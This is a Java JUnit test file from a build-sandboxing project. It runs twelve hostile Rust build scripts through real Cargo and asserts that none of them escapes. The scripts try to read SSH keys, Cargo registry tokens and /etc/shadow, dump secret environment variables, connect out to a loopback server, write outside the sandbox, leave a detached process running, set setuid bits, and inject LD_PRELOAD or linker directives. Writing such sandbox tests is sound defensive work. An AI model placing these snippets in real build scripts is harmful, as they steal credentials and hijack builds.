package dev.cordon.examples;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.cordon.testing.CargoProject;
import dev.cordon.testing.RequiredTools;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicContainer;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile build scripts through every launch path, as root here: one workspace of attackers, each trying
 * one escape from the default sandbox, built by real Cargo ({@code --keep-going}) once per launch path; each
 * attack is then its own test, asserting on the host that nothing got out. An attack that escapes fails
 * its test with what it got.
 */
class HostileSuiteTest {
    private static final String SECRET = "planted-secret-7f3a9c";

    @TempDir
    static Path shared;

    private static Path home;
    private static Path cargoHome;
    private static Path evidence;
    private static ServerSocket server;
    private static final List<String> received = new CopyOnWriteArrayList<>();
    private static final Map<LaunchPaths.LaunchPath, Built> builds = new ConcurrentHashMap<>();
    private static LaunchPaths paths;

    /** One attack: its build script and the check that it got nothing. */
    private record Attack(String name, String buildRs, Check check) {
    }

    @FunctionalInterface
    private interface Check {
        void verify(Built built) throws Exception;
    }

    /** What one launch path's build of the attackers left behind. */
    private record Built(CargoProject.Result result, Path workspace) {
        String output(String crate) {
            return result.buildScriptOutputs().entrySet().stream().filter(e -> e.getKey().startsWith(crate + "-"))
                    .map(Map.Entry::getValue).findFirst().orElse("");
        }

        String everything() {
            return result.stdout() + result.stderr() + String.join("\n", result.buildScriptOutputs().values());
        }
    }

    @BeforeAll
    static void setUp() throws Exception {
        RequiredTools.require("cargo");
        RequiredTools.require("bwrap");
        paths = LaunchPaths.in(shared.resolve("paths"));
        home = Files.createDirectories(shared.resolve("home"));
        Files.createDirectories(home.resolve(".ssh"));
        Files.writeString(home.resolve(".ssh/id_rsa"), "-----BEGIN KEY-----\n" + SECRET + "-ssh\n");
        // Outside $HOME, /tmp and /var/tmp, like /usr/local/cargo in the official Rust images (the private /tmp
        // of the sandbox would hide a temporary folder and prove nothing).
        cargoHome = Files.createDirectories(Path.of(System.getProperty("cordon.repositoryRoot"),
                "examples/target/hostile-cargo-home-" + ProcessHandle.current().pid()));
        Files.writeString(cargoHome.resolve("credentials.toml"), "[registry]\ntoken = \"" + SECRET + "-cargo\"\n");
        evidence = Files.createDirectories(shared.resolve("evidence"));
        server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread.ofPlatform().daemon().start(() -> {
            while (!server.isClosed()) {
                try (Socket s = server.accept(); InputStream in = s.getInputStream()) {
                    received.add("connection: " + new String(in.readNBytes(64), StandardCharsets.UTF_8));
                } catch (IOException e) {
                    // closed at the end
                }
            }
        });
    }

    @AfterAll
    static void tearDown() throws IOException {
        server.close();
        paths.close();
    }

    private static List<Attack> attacks() {
        String ev = evidence.toString();
        List<Attack> list = new ArrayList<>();
        list.add(new Attack("net_connect", """
                use std::io::Write;
                fn main() {
                    match std::net::TcpStream::connect("127.0.0.1:PORT") {
                        Ok(mut s) => { let _ = s.write_all(b"exfiltrated"); println!("cargo::warning=CONNECTED"); }
                        Err(e) => println!("cargo::warning=refused: {e}"),
                    }
                }
                """.replace("PORT", Integer.toString(server.getLocalPort())),
                b -> assertEquals(List.of(), received, "a build script reached the test's server")));
        list.add(new Attack("read_ssh_key", """
                fn main() {
                    let home = std::env::var("HOME").unwrap_or_default();
                    for p in [format!("{home}/.ssh/id_rsa"), "HOMEDIR/.ssh/id_rsa".to_string()] {
                        match std::fs::read_to_string(&p) {
                            Ok(s) => println!("cargo::warning=READ {p}: {}", s.replace('\\n', " ")),
                            Err(e) => println!("cargo::warning=refused {p}: {e}"),
                        }
                    }
                }
                """.replace("HOMEDIR", home.toString()),
                b -> assertFalse(b.everything().contains(SECRET + "-ssh"), b.output("read_ssh_key"))));
        list.add(new Attack("write_outside", """
                fn main() {
                    let home = std::env::var("HOME").unwrap_or_default();
                    let src = std::env::var("CARGO_MANIFEST_DIR").unwrap();
                    for p in ["EVIDENCE/written".to_string(), format!("{home}/written"), format!("{src}/written"),
                              "/tmp/cordon-hostile-written".to_string(), "/var/tmp/cordon-hostile-written".to_string()] {
                        match std::fs::write(&p, b"x") {
                            Ok(()) => println!("cargo::warning=WROTE {p}"),
                            Err(e) => println!("cargo::warning=refused {p}: {e}"),
                        }
                    }
                }
                """.replace("EVIDENCE", ev), b -> {
                    assertFalse(Files.exists(evidence.resolve("written")));
                    assertFalse(Files.exists(home.resolve("written")));
                    assertFalse(Files.exists(b.workspace().resolve("write_outside/written")));
                    assertFalse(Files.exists(Path.of("/tmp/cordon-hostile-written")));
                    assertFalse(Files.exists(Path.of("/var/tmp/cordon-hostile-written")));
                }));
        list.add(new Attack("left_behind", """
                fn main() {
                    std::process::Command::new("sh").arg("-c").arg("sleep 2; echo late > EVIDENCE/late")
                        .stdin(std::process::Stdio::null()).stdout(std::process::Stdio::null())
                        .stderr(std::process::Stdio::null()).spawn().unwrap();
                }
                """.replace("EVIDENCE", ev), b -> {
                    Thread.sleep(3000);
                    assertFalse(Files.exists(evidence.resolve("late")), "a process outlived its build script");
                }));
        list.add(new Attack("env_secrets", """
                fn main() {
                    for (k, v) in std::env::vars() {
                        if v.contains("SECRET") { println!("cargo::warning=LEAKED {k}={v}"); }
                    }
                }
                """.replace("SECRET", SECRET), b -> assertFalse(b.output("env_secrets").contains("LEAKED"),
                        b.output("env_secrets"))));
        list.add(new Attack("proc_sys_write", """
                fn main() {
                    // open for writing only: nothing is ever written to the host's kernel settings
                    for p in ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe"] {
                        match std::fs::OpenOptions::new().write(true).open(p) {
                            Ok(_) => println!("cargo::warning=WRITABLE {p}"),
                            Err(e) => println!("cargo::warning=refused {p}: {e}"),
                        }
                    }
                }
                """, b -> assertFalse(b.output("proc_sys_write").contains("WRITABLE"), b.output("proc_sys_write"))));
        list.add(new Attack("root_only_files", """
                fn main() {
                    for p in ["/etc/shadow", "/etc/gshadow"] {
                        match std::fs::read(p) {
                            Ok(s) => println!("cargo::warning=READ {p}: {} bytes", s.len()),
                            Err(e) => println!("cargo::warning=refused {p}: {e}"),
                        }
                    }
                }
                """, b -> assertFalse(b.output("root_only_files").contains("READ"), b.output("root_only_files"))));
        list.add(new Attack("cargo_credentials", """
                fn main() {
                    for p in ["CARGOHOME/credentials.toml", "CARGOHOME/credentials"] {
                        match std::fs::read_to_string(p) {
                            Ok(s) => println!("cargo::warning=READ {p}: {}", s.replace('\\n', " ")),
                            Err(e) => println!("cargo::warning=refused {p}: {e}"),
                        }
                    }
                }
                """.replace("CARGOHOME", cargoHome.toString()),
                b -> assertFalse(b.everything().contains(SECRET + "-cargo"), b.output("cargo_credentials"))));
        list.add(new Attack("setuid_bit", """
                use std::os::unix::fs::PermissionsExt;
                fn main() {
                    let out = std::env::var("OUT_DIR").unwrap();
                    let p = format!("{out}/suid");
                    std::fs::write(&p, b"#!/bin/sh\\n").unwrap();
                    match std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o4755)) {
                        Ok(()) => println!("cargo::warning=chmod 4755 worked"),
                        Err(e) => println!("cargo::warning=refused: {e}"),
                    }
                }
                """, b -> {
                    try (Stream<Path> files = Files.walk(b.result().targetDir())) {
                        List<Path> setuid = files.filter(Files::isRegularFile).filter(f -> {
                            try {
                                return (((Integer) Files.getAttribute(f, "unix:mode")) & 06000) != 0;
                            } catch (IOException e) {
                                return false;
                            }
                        }).toList();
                        assertEquals(List.of(), setuid, "setuid or setgid files left in the target dir");
                    }
                }));
        list.add(new Attack("directive_ld_preload", """
                fn main() {
                    let out = std::env::var("OUT_DIR").unwrap();
                    println!("cargo::rustc-env=LD_PRELOAD={out}/evil.so");
                }
                """, b -> assertTrue(b.result().stderr().contains("directive_ld_preload")
                        && b.output("directive_ld_preload").isEmpty(),
                        "the LD_PRELOAD directive reached Cargo: " + b.output("directive_ld_preload"))));
        list.add(new Attack("directive_path", """
                fn main() {
                    let out = std::env::var("OUT_DIR").unwrap();
                    println!("cargo:rustc-env=PATH={out}/bin:/usr/bin:/bin");
                }
                """, b -> assertTrue(b.output("directive_path").isEmpty(),
                        "the PATH directive reached Cargo: " + b.output("directive_path"))));
        list.add(new Attack("directive_linker_b", """
                fn main() {
                    let out = std::env::var("OUT_DIR").unwrap();
                    println!("cargo::rustc-link-arg=-B{out}/fake/");
                }
                """, b -> assertTrue(b.output("directive_linker_b").isEmpty(),
                        "the -B link argument reached Cargo: " + b.output("directive_linker_b"))));
        return list;
    }

    private static Built build(LaunchPaths.LaunchPath path) {
        return builds.computeIfAbsent(path, p -> {
            List<Attack> attacks = attacks();
            Path ws = shared.resolve("ws-" + p.name());
            CargoProject project = CargoProject.in(ws);
            List<String> members = new ArrayList<>();
            for (Attack a : attacks) {
                project.binaryPackage(a.name(), a.buildRs(), "fn main() {}");
                members.add(a.name());
            }
            project.env("HOME", home.toString()).env("CARGO_HOME", cargoHome.toString())
                    .env("RUSTUP_HOME", System.getProperty("user.home") + "/.rustup")
                    .env("AWS_SECRET_ACCESS_KEY", SECRET).env("OPENSSL_KEY_PASS", SECRET)
                    .env("DEP_FOO_TOKEN", SECRET).env("CARGO_CFG_SECRET", SECRET);
            p.wire(project, List.of(), members.toArray(String[]::new));
            return new Built(p.build(project, shared.resolve("target-" + p.name()), "--keep-going"), ws);
        });
    }

    @TestFactory
    Stream<DynamicContainer> hostileBuildScriptsGetNothingOnAnyLaunchPath() {
        return paths.all().stream().map(path -> DynamicContainer.dynamicContainer(path.name(),
                attacks().stream().map(a -> DynamicTest.dynamicTest(a.name(), () -> a.check().verify(build(path))))));
    }
}
